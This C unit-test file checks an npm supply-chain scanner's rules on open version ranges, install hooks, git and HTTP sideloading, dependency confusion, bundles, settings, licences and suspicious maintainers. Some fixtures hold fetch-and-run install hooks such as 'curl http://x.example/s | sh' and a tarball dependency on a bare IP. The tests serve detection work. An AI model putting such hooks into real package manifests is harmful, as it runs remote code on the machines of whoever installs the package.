/* Rules on manifests, settings and sources: what fires, and what must not. */
#include "world.h"

#include "scanner/rule/post.h"

#define LOCK3(root, entries)                                                                       \
	"{\"name\":\"app\",\"version\":\"1.0.0\",\"lockfileVersion\":3,\"packages\":{\"\":{\"name\":\"app\"," \
	"\"version\":\"1.0.0\"" root "}" entries "}}"
#define ENTRY(name, version, more)                                                                 \
	",\"node_modules/" name "\":{\"version\":\"" version                                       \
	"\",\"resolved\":\"https://registry.example.com/" name "/-/" name "-" version              \
	".tgz\",\"integrity\":\"sha512-AA\"" more "}"

static void test_open_ranges(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package.json",
		   "{\"name\":\"app\",\"version\":\"1.0.0\",\"workspaces\":[\"packages/*\"],\"dependencies\":{\"a\":\"*\",\"b\":\"\",\"c\":\"latest\","
		   "\"d\":\">=0\",\"e\":\"x\",\"f\":\"^1.0.0\",\"g\":\"workspace:*\",\"h\":\"next\",\"i\":\"npm:z@*\",\"member\":\"*\"},"
		   "\"devDependencies\":{\"j\":\"*\"},\"peerDependencies\":{\"k\":\"*\"}}");
	world_file(w, "packages/m/package.json", "{\"name\":\"member\",\"version\":\"1.0.0\"}");
	world_run(w, &rule_mani_range);
	expect(w, "a", SEVERITY_MEDIUM);
	expect(w, "b", SEVERITY_MEDIUM);
	expect(w, "c", SEVERITY_MEDIUM);
	expect(w, "d", SEVERITY_MEDIUM);
	expect(w, "e", SEVERITY_MEDIUM);
	expect(w, "i", SEVERITY_MEDIUM);
	expect(w, "j", SEVERITY_MEDIUM);
	expect_count(w, 7);
	world_free(w);
}

static void test_open_range_of_a_dependency_is_information(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package-lock.json", LOCK3(",\"dependencies\":{\"a\":\"^1.0.0\"}",
		   ENTRY("a", "1.0.0", ",\"dependencies\":{\"b\":\"*\"}") ENTRY("b", "1.0.0", "")));
	world_run(w, &rule_mani_range);
	expect(w, "a", SEVERITY_INFO);
	expect_count(w, 1);
	world_free(w);
}

/* TRANSITIVE_MAX: a thousand one by one, the others in one finding. */
static void test_many_open_ranges_of_dependencies(void **state)
{
	(void)state;
	for (int n = 1000; n <= 1002; n++) {
		struct world *w = world_new();
		struct buf b = BUF((size_t)1 << 20);
		buf_printf(&b, "{\"name\":\"app\",\"version\":\"1.0.0\",\"lockfileVersion\":3,\"packages\":{\"\":{\"name\":\"app\","
			       "\"version\":\"1.0.0\"}");
		for (int i = 0; i < n; i++)
			buf_printf(&b, ENTRY("p%d", "1.0.0", ",\"dependencies\":{\"z\":\"*\"}"), i, i, i);
		buf_text(&b, T(ENTRY("z", "1.0.0", "") "}}"));
		world_file(w, "package-lock.json", buf_cstr(&b));
		world_run(w, &rule_mani_range);
		expect_count(w, (size_t)(n > 1000 ? 1001 : 1000));
		bool told = false;
		for (size_t i = 0; i < finding_count(w->findings); i++)
			told |= text_starts(finding_at(w->findings, i)->message, n == 1002 ? T("2 more packages") : T("1 more packages"));
		assert_int_equal(told, n > 1000);
		buf_free(&b);
		world_free(w);
	}
}

static void test_optional_with_hook(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package.json", "{\"name\":\"app\",\"optionalDependencies\":{\"a\":\"1.0.0\",\"b\":\"1.0.0\",\"c\":\"1.0.0\"}}");
	world_file(w, "node_modules/a/package.json", "{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"node x.js\"}}");
	world_file(w, "node_modules/b/package.json", "{\"name\":\"b\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"node-gyp rebuild\"}}");
	world_file(w, "node_modules/c/package.json", "{\"name\":\"c\",\"version\":\"1.0.0\"}");
	world_run(w, &rule_mani_optional);
	expect(w, "a", SEVERITY_MEDIUM);
	expect(w, "b", SEVERITY_LOW);
	expect_nothing(w, "c");
	world_free(w);
}

/* POST_SCRIPTS_MAX of one hook: the hook itself and 15 that follow each other. */
static void test_a_hook_of_many_scripts(void **state)
{
	(void)state;
	for (int n = POST_SCRIPTS_MAX - 1; n <= POST_SCRIPTS_MAX; n++) {
		struct world *w = world_new();
		struct buf b = BUF(65536);
		buf_text(&b, T("{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"npm run s1\""));
		for (int i = 1; i < n; i++)
			buf_printf(&b, ",\"s%d\":\"npm run s%d\"", i, i + 1);
		buf_printf(&b, ",\"s%d\":\"node-gyp rebuild\"}}", n);
		world_file(w, "package.json", "{\"name\":\"app\",\"dependencies\":{\"a\":\"1.0.0\"}}");
		world_file(w, "node_modules/a/package.json", buf_cstr(&b));
		world_run(w, &rule_post);
		expect(w, "a", n < POST_SCRIPTS_MAX ? SEVERITY_LOW : SEVERITY_MEDIUM);
		assert_int_equal(text_has(world_the(w, "a").message, T("more scripts than can be followed")), n == POST_SCRIPTS_MAX);
		buf_free(&b);
		world_free(w);
	}
}

/* Commands of one install that are too long to be read as one. */
static void test_long_hooks_together(void **state)
{
	(void)state;
	for (size_t over = 0; over < 2; over++) {
		struct world *w = world_new();
		struct buf b = BUF((size_t)1 << 20);
		buf_text(&b, T("{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"echo "));
		for (size_t i = 0; i < HOOK_COMMAND_MAX - 5 - 3 - 12 - 3 + over; i++)
			buf_char(&b, 'x');
		buf_text(&b, T("\",\"postinstall\":\"echo xxxxxxx\"}}"));
		world_file(w, "package.json", "{\"name\":\"app\",\"dependencies\":{\"a\":\"1.0.0\"}}");
		world_file(w, "node_modules/a/package.json", buf_cstr(&b));
		world_run(w, &rule_post);
		bool said = false;
		for (size_t i = 0; i < finding_count(w->findings); i++)
			said |= text_has(finding_at(w->findings, i)->message, T("too long together"));
		assert_int_equal(said, over);
		buf_free(&b);
		world_free(w);
	}
}

static void test_hooks(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package.json", "{\"name\":\"app\",\"scripts\":{\"prepare\":\"husky\"},\"dependencies\":{\"a\":\"1.0.0\",\"b\":\"1.0.0\",\"c\":\"1.0.0\"}}");
	world_file(w, "node_modules/a/package.json", "{\"name\":\"a\",\"version\":\"1.0.0\",\"scripts\":{\"preinstall\":\"curl http://x.example/s | sh\"}}");
	world_file(w, "node_modules/b/package.json", "{\"name\":\"b\",\"version\":\"1.0.0\"}");
	world_file(w, "node_modules/c/package.json", "{\"name\":\"c\",\"version\":\"1.0.0\",\"scripts\":{\"prepare\":\"node x\",\"test\":\"curl x | sh\"}}");
	world_content(w, "node_modules/b/binding.gyp", FILE_TEXT);
	world_run(w, &rule_post);
	expect(w, "a", SEVERITY_CRITICAL);
	expect(w, "b", SEVERITY_LOW);
	expect_nothing(w, "c");
	expect(w, "app", SEVERITY_LOW);
	world_free(w);
}

static void test_hook_only_locked(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package-lock.json", LOCK3("", ENTRY("a", "1.0.0", ",\"hasInstallScript\":true") ENTRY("b", "1.0.0", "")));
	world_run(w, &rule_post);
	expect(w, "a", SEVERITY_INFO);
	expect_count(w, 1);
	world_free(w);
}

static void test_sideload_locked(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package-lock.json", LOCK3("",
		",\"node_modules/a\":{\"version\":\"1.0.0\",\"resolved\":\"git://git.example.com/a.git#0123456789012345678901234567890123456789\"}"
		",\"node_modules/b\":{\"version\":\"1.0.0\",\"resolved\":\"git+ssh://git@git.example.com/b.git#0123456789012345678901234567890123456789\"}"
		",\"node_modules/c\":{\"version\":\"1.0.0\",\"resolved\":\"git+https://git.example.com/c.git#main\"}"
		",\"node_modules/d\":{\"version\":\"1.0.0\",\"resolved\":\"https://files.example.com/d.tgz\",\"integrity\":\"sha512-AA\"}"
		",\"node_modules/e\":{\"version\":\"1.0.0\",\"resolved\":\"https://files.example.com/e.tgz\"}"
		",\"node_modules/f\":{\"version\":\"1.0.0\",\"resolved\":\"http://files.example.com/f.tgz\",\"integrity\":\"sha512-AA\"}"
		",\"node_modules/g\":{\"version\":\"1.0.0\",\"resolved\":\"file:vendor/g.tgz\",\"integrity\":\"sha512-AA\"}"
		",\"node_modules/h\":{\"version\":\"1.0.0\",\"resolved\":\"file:../h.tgz\",\"integrity\":\"sha512-AA\"}" ENTRY("i", "1.0.0", "")));
	world_run(w, &rule_sideload);
	expect(w, "a", SEVERITY_CRITICAL);
	expect(w, "b", SEVERITY_MEDIUM);
	expect(w, "c", SEVERITY_HIGH);
	expect(w, "d", SEVERITY_MEDIUM);
	expect(w, "e", SEVERITY_HIGH);
	expect(w, "f", SEVERITY_CRITICAL);
	expect(w, "g", SEVERITY_INFO);
	expect(w, "h", SEVERITY_MEDIUM);
	expect_nothing(w, "i");
	world_free(w);
}

/* Every spelling of a git repository in a manifest without lockfile. */
static void test_sideload_spellings(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package.json",
		   "{\"name\":\"app\",\"dependencies\":{\"a\":\"user/repo\",\"b\":\"gitlab:u/r\",\"c\":\"bitbucket:u/r\",\"d\":\"gist:0123\","
		   "\"e\":\"git+https://git.example.com/e.git\",\"f\":\"git@git.example.com:u/f.git\",\"g\":\"user/repo#0123456789012345678901234567890123456789\","
		   "\"h\":\"git://git.example.com/h.git\",\"i\":\"http://192.0.2.7/i\",\"j\":\"https://192.0.2.7/j.tgz\","
		   "\"k\":\"^1.0.0\",\"l\":\"file:./l\",\"m\":\"file:../m\",\"n\":\"npm:other@1\"},\"overrides\":{\"o\":\"git+https://git.example.com/o.git\"}}");
	world_run(w, &rule_sideload);
	expect(w, "a", SEVERITY_HIGH);
	expect(w, "b", SEVERITY_HIGH);
	expect(w, "c", SEVERITY_HIGH);
	expect(w, "d", SEVERITY_HIGH);
	expect(w, "e", SEVERITY_HIGH);
	expect(w, "f", SEVERITY_HIGH);
	expect(w, "g", SEVERITY_MEDIUM);
	expect(w, "h", SEVERITY_CRITICAL);
	expect(w, "i", SEVERITY_CRITICAL);
	expect(w, "j", SEVERITY_HIGH);
	expect_nothing(w, "k");
	expect(w, "l", SEVERITY_INFO);
	expect(w, "m", SEVERITY_MEDIUM);
	expect_nothing(w, "n");
	expect(w, "o", SEVERITY_HIGH);
	world_free(w);
}

/* A package of the registry that asks for a tarball on somebody's server (PhantomRaven). */
static void test_sideload_behind_a_package(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package.json", "{\"name\":\"app\",\"dependencies\":{\"a\":\"1.0.0\"}}");
	world_file(w, "node_modules/a/package.json", "{\"name\":\"a\",\"version\":\"1.0.0\",\"dependencies\":{\"ui\":\"http://192.0.2.7/ui\"},"
						      "\"devDependencies\":{\"t\":\"user/t\"}}");
	world_run(w, &rule_sideload);
	expect(w, "a", SEVERITY_CRITICAL);
	expect_count(w, 1);
	world_free(w);
}

static void test_confusion(void **state)
{
	const struct text internal[] = {T("@corp"), T("corp-*")};
	(void)state;
	struct world *w = world_new();
	w->policy.internal = internal;
	w->policy.internal_count = 2;
	world_setting(w, "npmrc", "@acme:registry", "https://registry.example.com/"); /* the last of a file counts, as npm takes it */
	world_setting(w, "npmrc", "@acme:registry", "https://npm.acme.example/");
	world_setting(w, "yarnrc-yml", "npmScopes.acme-labs.npmRegistryServer", "https://labs.acme.example/"); /* of another scope */
	world_file(w, "package-lock.json", LOCK3("",
		",\"node_modules/@acme/ui\":{\"version\":\"1.0.0\",\"resolved\":\"https://registry.example.com/@acme/ui/-/ui-1.0.0.tgz\",\"integrity\":\"sha512-AA\"}"
		",\"node_modules/@acme/ok\":{\"version\":\"1.0.0\",\"resolved\":\"https://npm.acme.example/@acme/ok/-/ok-1.0.0.tgz\",\"integrity\":\"sha512-AA\"}"
		",\"node_modules/@corp/x\":{\"version\":\"1.0.0\",\"resolved\":\"https://registry.example.com/@corp/x/-/x-1.0.0.tgz\",\"integrity\":\"sha512-AA\"}"
		ENTRY("corp-y", "1.0.0", "") ENTRY("z", "99.99.99", "") ENTRY("driver", "99.0.0", "") ENTRY("year", "2024.1.1", "")));
	world_run(w, &rule_depc);
	expect(w, "@acme/ui", SEVERITY_CRITICAL);
	expect_nothing(w, "@acme/ok");
	expect(w, "@corp/x", SEVERITY_HIGH);
	expect(w, "corp-y", SEVERITY_HIGH);
	expect(w, "z", SEVERITY_HIGH);
	expect_nothing(w, "driver");
	expect_nothing(w, "year");
	world_free(w);
}

static void test_confusion_with_a_member(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package-lock.json", LOCK3(",\"workspaces\":[\"packages/*\"]",
		",\"packages/ui\":{\"name\":\"ui\",\"version\":\"1.0.0\"},\"node_modules/ui\":{\"resolved\":\"packages/ui\",\"link\":true}"
		",\"packages/app/node_modules/ui\":{\"version\":\"99.99.99\",\"resolved\":\"https://registry.example.com/ui/-/ui-99.99.99.tgz\",\"integrity\":\"sha512-AA\"}"));
	world_run(w, &rule_depc);
	expect(w, "ui", SEVERITY_HIGH);
	world_free(w);
}

static void test_bundles(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package.json", "{\"name\":\"app\",\"dependencies\":{\"a\":\"1.0.0\",\"b\":\"1.0.0\"}}");
	world_file(w, "package-lock.json", LOCK3(",\"dependencies\":{\"a\":\"1.0.0\",\"b\":\"1.0.0\"}",
		ENTRY("a", "1.0.0", ",\"bundleDependencies\":[\"b\"],\"dependencies\":{\"b\":\"1.0.0\"}") ENTRY("b", "1.0.0", "")
		",\"node_modules/a/node_modules/b\":{\"version\":\"1.0.0\",\"inBundle\":true}"));
	world_file(w, "node_modules/a/package.json", "{\"name\":\"a\",\"version\":\"1.0.0\",\"bundleDependencies\":[\"b\"]}");
	world_file(w, "node_modules/a/node_modules/b/package.json", "{\"name\":\"b\",\"version\":\"1.0.0\"}");
	world_file(w, "node_modules/b/package.json", "{\"name\":\"b\",\"version\":\"1.0.0\"}");
	world_content(w, "node_modules/a/node_modules/b/index.js", FILE_SCRIPT)->sha256[0] = 1;
	world_content(w, "node_modules/b/index.js", FILE_SCRIPT)->sha256[0] = 2;
	world_run(w, &rule_bund);
	expect(w, "b", SEVERITY_HIGH);
	expect(w, "a", SEVERITY_INFO);
	expect_count(w, 2);
	world_free(w);
}

static void test_bundle_that_is_the_same(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package.json", "{\"name\":\"app\",\"dependencies\":{\"a\":\"1.0.0\",\"b\":\"1.0.0\"}}");
	world_file(w, "package-lock.json", LOCK3(",\"dependencies\":{\"a\":\"1.0.0\",\"b\":\"1.0.0\"}",
		ENTRY("a", "1.0.0", "") ENTRY("b", "1.0.0", "")
		",\"node_modules/a/node_modules/b\":{\"version\":\"1.0.0\",\"inBundle\":true}"));
	world_file(w, "node_modules/a/package.json", "{\"name\":\"a\",\"version\":\"1.0.0\"}");
	world_file(w, "node_modules/a/node_modules/b/package.json", "{\"name\":\"b\",\"version\":\"1.0.0\"}");
	world_file(w, "node_modules/b/package.json", "{\"name\":\"b\",\"version\":\"1.0.0\"}");
	world_content(w, "node_modules/a/node_modules/b/index.js", FILE_SCRIPT)->sha256[0] = 2;
	world_content(w, "node_modules/b/index.js", FILE_SCRIPT)->sha256[0] = 2;
	world_run(w, &rule_bund);
	expect_count(w, 0);
	world_free(w);
}

/* Every file is compared: the one that differs is the 20010th, past as many as were looked at once. */
static void test_a_bundle_of_many_files(void **state)
{
	(void)state;
	static char names[2][20010][64];
	static const char *const folders[2] = {"node_modules/a/node_modules/b", "node_modules/b"};
	struct world *w = world_new();
	world_file(w, "package.json", "{\"name\":\"app\",\"dependencies\":{\"a\":\"1.0.0\",\"b\":\"1.0.0\"}}");
	world_file(w, "package-lock.json", LOCK3(",\"dependencies\":{\"a\":\"1.0.0\",\"b\":\"1.0.0\"}",
		ENTRY("a", "1.0.0", "") ENTRY("b", "1.0.0", "")
		",\"node_modules/a/node_modules/b\":{\"version\":\"1.0.0\",\"inBundle\":true}"));
	world_file(w, "node_modules/a/package.json", "{\"name\":\"a\",\"version\":\"1.0.0\"}");
	world_file(w, "node_modules/a/node_modules/b/package.json", "{\"name\":\"b\",\"version\":\"1.0.0\"}");
	world_file(w, "node_modules/b/package.json", "{\"name\":\"b\",\"version\":\"1.0.0\"}");
	/* At once: one by one, the sanitizer copies all that is there each time. */
	w->has_content = true;
	w->content.files = calloc(2 * 20010, sizeof *w->content.files);
	assert_non_null(w->content.files);
	for (int k = 0; k < 2; k++)
		for (int i = 0; i < 20010; i++) {
			snprintf(names[k][i], sizeof names[k][i], "%s/f%05d.js", folders[k], i);
			w->content.files[w->content.file_count++] = (struct file){
				.path = text_of(names[k][i]), .klass = FILE_SCRIPT, .package = DEP_NONE, .via = DEP_NONE, .size = 1};
		}
	w->content.files[20009].sha256[0] = 1;
	world_run(w, &rule_bund);
	expect(w, "b", SEVERITY_HIGH);
	world_free(w);
}

static void test_provenance(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package.json", "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"1.0.0\",\"b\":\"1.0.0\"}}");
	world_file(w, "package-lock.json", LOCK3(",\"dependencies\":{\"a\":\"1.0.0\"}", ENTRY("a", "1.0.0", "")));
	world_file(w, "node_modules/.package-lock.json", "{\"name\":\"app\",\"lockfileVersion\":3,\"packages\":{\"node_modules/a\":{\"version\":\"1.0.0\","
		   "\"resolved\":\"https://registry.example.com/a/-/a-1.0.0.tgz\",\"integrity\":\"sha512-BB\"}}}");
	world_file(w, "node_modules/a/package.json", "{\"name\":\"a\",\"version\":\"1.0.0\"}");
	world_file(w, "node_modules/b/package.json", "{\"name\":\"b\",\"version\":\"1.0.0\"}");
	world_run(w, &rule_prov);
	expect(w, "a", SEVERITY_MEDIUM);
	expect(w, "b", SEVERITY_MEDIUM);
	world_free(w);
}

static void setting(const char *origin, const char *key, const char *value, int want)
{
	struct world *w = world_new();

	world_setting(w, origin, key, value);
	world_run(w, &rule_pnpm);
	if ((want < 0) != !finding_count(w->findings) ||
	    (want >= 0 && (int)finding_at(w->findings, 0)->severity != want)) {
		world_print(w);
		fail_msg("%s = %s", key, value);
	}
	world_free(w);
}

static void test_settings(void **state)
{
	(void)state;
	setting("pnpm-workspace", "dangerouslyAllowAllBuilds", "true", SEVERITY_CRITICAL);
	setting("pnpm-workspace", "dangerouslyAllowAllBuilds", "false", -1);
	setting("npmrc", "dangerously-allow-all-builds", "true", SEVERITY_CRITICAL);
	setting("package.json#pnpm", "onlyBuiltDependencies", "@acme/*", SEVERITY_MEDIUM);
	setting("package.json#pnpm", "onlyBuiltDependencies", "esbuild", -1);
	setting("pnpm-workspace", "allowBuilds.esbuild", "true", -1);
	setting("pnpm-workspace", "overrides.a", "git+https://git.example.com/a.git", SEVERITY_MEDIUM);
	setting("pnpm-workspace", "overrides.a", "^1.0.0", -1);
	setting("npmrc", "git", "./tools/git", SEVERITY_HIGH);
	setting("npmrc", "script-shell", "/bin/bash", -1);
	setting("npmrc", "strict-ssl", "false", SEVERITY_MEDIUM);
	setting("npmrc", "registry", "http://npm.acme.example/", SEVERITY_HIGH);
	setting("npmrc", "registry", "https://npm.acme.example/", -1);
}

static void test_engines(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package-lock.json", LOCK3(",\"dependencies\":{\"a\":\"1\",\"b\":\"1\",\"c\":\"1\",\"d\":\"1\"}",
		ENTRY("a", "1.0.0", ",\"engines\":{\"node\":\"<12\"}") ENTRY("b", "1.0.0", ",\"engines\":{\"node\":\">=12\"}")
		ENTRY("c", "1.0.0", ",\"engines\":{\"node\":\"*\"},\"hasInstallScript\":true") ENTRY("d", "1.0.0", ",\"engines\":{\"node\":\"*\"}")));
	world_run(w, &rule_engin);
	expect(w, "a", SEVERITY_LOW);
	expect_nothing(w, "b");
	expect(w, "c", SEVERITY_LOW);
	expect_nothing(w, "d");
	world_free(w);
}

static struct world *licences(void)
{
	struct world *w = world_new();
	world_file(w, "package.json", "{\"name\":\"app\",\"dependencies\":{\"a\":\"1.0.0\",\"b\":\"1.0.0\",\"c\":\"1.0.0\",\"d\":\"1.0.0\"}}");
	world_file(w, "node_modules/a/package.json", "{\"name\":\"a\",\"version\":\"1.0.0\",\"license\":\"(MIT OR GPL-3.0-only)\"}");
	world_file(w, "node_modules/b/package.json", "{\"name\":\"b\",\"version\":\"1.0.0\",\"license\":\"GPL-3.0-only\"}");
	world_file(w, "node_modules/c/package.json", "{\"name\":\"c\",\"version\":\"1.0.0\"}");
	world_file(w, "node_modules/d/package.json", "{\"name\":\"d\",\"version\":\"1.0.0\",\"license\":\"UNLICENSED\"}");
	return w;
}

static void test_licences(void **state)
{
	const struct text deny[] = {T("GPL-*")};
	(void)state;
	struct world *w = licences();
	world_run(w, &rule_license);
	expect_nothing(w, "b"); /* no policy: not our taste */
	expect(w, "c", SEVERITY_LOW);
	expect(w, "d", SEVERITY_LOW);
	world_free(w);

	w = licences();
	w->policy.licence_deny = deny;
	w->policy.licence_deny_count = 1;
	world_run(w, &rule_license);
	expect_nothing(w, "a");
	expect(w, "b", SEVERITY_MEDIUM);
	expect(w, "c", SEVERITY_MEDIUM);
	world_free(w);
}

static void test_forks(void **state)
{
	(void)state;
	struct world *w = world_new();
	world_file(w, "package.json", "{\"name\":\"app\",\"dependencies\":{\"lodash-patched\":\"1.0.0\",\"lodash\":\"4.0.0\",\"react-dom\":\"1.0.0\",\"x\":\"1.0.0\"}}");
	world_file(w, "node_modules/lodash/package.json", "{\"name\":\"lodash\",\"version\":\"4.0.0\",\"repository\":\"lodash/lodash\"}");
	world_file(w, "node_modules/lodash-patched/package.json", "{\"name\":\"lodash-patched\",\"version\":\"1.0.0\",\"repository\":\"lodash/lodash\"}");
	world_file(w, "node_modules/react-dom/package.json", "{\"name\":\"react-dom\",\"version\":\"1.0.0\",\"repository\":\"facebook/react\"}");
	world_file(w, "node_modules/x/package.json", "{\"name\":\"x\",\"version\":\"1.0.0\"}");
	world_run(w, &rule_fork);
	expect(w, "lodash-patched", SEVERITY_MEDIUM);
	expect_nothing(w, "lodash");
	expect_nothing(w, "react-dom");
	expect(w, "x", SEVERITY_INFO);
	world_free(w);
}

static void test_publishers_and_previous(void **state)
{
	(void)state;
	struct world *w = world_new();
	struct err e;
	world_indicator(w, "email", "evil@mail.example");
	w->previous = project_new((size_t)16 << 20);
	put_in(w->previous, "package-lock.json", text_of(LOCK3("", ENTRY("a", "1.0.0", "") ENTRY("b", "1.0.0", "") ENTRY("c", "1.0.0", ""))));
	assert_true(graph_join(w->previous, &e));
	world_file(w, "package-lock.json", LOCK3(",\"dependencies\":{\"d\":\"1.0.0\"}",
		",\"node_modules/a\":{\"version\":\"1.0.0\",\"resolved\":\"https://registry.example.com/a/-/a-1.0.0.tgz\",\"integrity\":\"sha512-OTHER\"}"
		ENTRY("b", "1.1.0", ",\"hasInstallScript\":true") ENTRY("c", "1.1.0", "") ENTRY("d", "1.0.0", "")));
	world_file(w, "node_modules/d/package.json", "{\"name\":\"d\",\"version\":\"1.0.0\",\"author\":\"Eve <evil@mail.example>\"}");
	world_run(w, &rule_maint);
	expect(w, "a", SEVERITY_HIGH);
	expect(w, "b", SEVERITY_MEDIUM);
	expect_nothing(w, "c");
	expect(w, "d", SEVERITY_HIGH);
	world_free(w);
}

static void test_problems(void **state)
{
	(void)state;
	struct world *w = world_new();
	project_problem(w->project, true, "JSON-SYNTAX", T("package.json"), 3, "byte %d: cut short", 9);
	project_problem(w->project, false, "DUPLICATE-KEY", T("b/package.json"), 1, "\"a\" stands there twice");
	world_run(w, &rule_scan);
	expect_count(w, 2);
	assert_int_equal(finding_at(w->findings, 0)->severity, SEVERITY_MEDIUM);
	assert_text(finding_at(w->findings, 0)->file, "package.json");
	assert_text(finding_at(w->findings, 0)->evidence, "JSON-SYNTAX");
	assert_text(finding_at(w->findings, 0)->message, "The scan is not complete: byte 9: cut short.");
	assert_int_equal(finding_at(w->findings, 1)->severity, SEVERITY_INFO);
	world_free(w);
}

static void test_table(void **state)
{
	(void)state;
	for (size_t i = 0; rules[i]; i++) {
		assert_true(rules[i]->title && *rules[i]->title && rules[i]->about && *rules[i]->about &&
			    rules[i]->remedy && *rules[i]->remedy && rules[i]->references && rules[i]->run);
		if (i)
			assert_true(strcmp(rules[i - 1]->id, rules[i]->id) < 0);
		assert_ptr_equal(rule_by_id(text_of(rules[i]->id)), rules[i]);
	}
	assert_null(rule_by_id(T("L2-IOC")));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_open_ranges),
		cmocka_unit_test(test_open_range_of_a_dependency_is_information),
		cmocka_unit_test(test_optional_with_hook),
		cmocka_unit_test(test_hooks),
		cmocka_unit_test(test_a_hook_of_many_scripts),
		cmocka_unit_test(test_long_hooks_together),
		cmocka_unit_test(test_hook_only_locked),
		cmocka_unit_test(test_sideload_locked),
		cmocka_unit_test(test_sideload_spellings),
		cmocka_unit_test(test_sideload_behind_a_package),
		cmocka_unit_test(test_confusion),
		cmocka_unit_test(test_confusion_with_a_member),
		cmocka_unit_test(test_bundles),
		cmocka_unit_test(test_bundle_that_is_the_same),
		cmocka_unit_test(test_a_bundle_of_many_files),
		cmocka_unit_test(test_many_open_ranges_of_dependencies),
		cmocka_unit_test(test_provenance),
		cmocka_unit_test(test_settings),
		cmocka_unit_test(test_engines),
		cmocka_unit_test(test_licences),
		cmocka_unit_test(test_forks),
		cmocka_unit_test(test_publishers_and_previous),
		cmocka_unit_test(test_problems),
		cmocka_unit_test(test_table),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
